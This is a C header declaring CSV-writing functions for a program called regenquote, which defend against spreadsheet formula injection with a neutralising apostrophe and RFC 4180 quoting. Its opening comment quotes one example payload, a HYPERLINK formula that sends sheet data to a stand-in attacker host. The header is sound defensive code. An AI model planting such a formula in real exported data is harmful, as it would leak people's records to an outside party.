/* csv_cell — one spreadsheet cell of every CSV regenquote writes, and the
 * way back.
 *
 * A spreadsheet runs a cell that begins with '=', '+', '-', '@', a tab or a
 * carriage return as a formula: a patient named
 * =HYPERLINK("http://evil.example/?"&A1,"Click") would become a link that
 * sends the sheet's data away.  csv_cell_write() neutralises such a cell
 * with a leading apostrophe, which spreadsheets take as "this is text"
 * (OWASP's advice), and always quotes it; a plain number such as -12.50 is
 * no formula and is written as it is.  So that the apostrophe can be taken
 * off exactly, a cell that already begins with apostrophes followed by one
 * of those characters gets one more.  csv_cell_unguard() is the inverse:
 * for every string s, csv_cell_unguard(what csv_cell_write wrote) == s.
 *
 * Quoting follows RFC 4180: a cell with a comma, a quote, a line break, or
 * a space or tab at either end is quoted, quotes doubled. */
#ifndef RQ_CSV_CELL_H
#define RQ_CSV_CELL_H

#include <stdbool.h>
#include <stdio.h>

/* Would s be written with the neutralising apostrophe? */
bool csv_cell_guarded(const char *s);

/* Write s (NULL: empty) as one cell, neutralised and quoted as needed,
 * without a separator.  Errors show in ferror(out). */
void csv_cell_write(FILE *out, const char *s);

/* The cell's text without the neutralising apostrophe: s + 1 when s is an
 * apostrophe, then apostrophes, then '=', '+', '-', '@', a tab or a
 * carriage return; else s.  Borrowed from s. */
const char *csv_cell_unguard(const char *s);

#endif
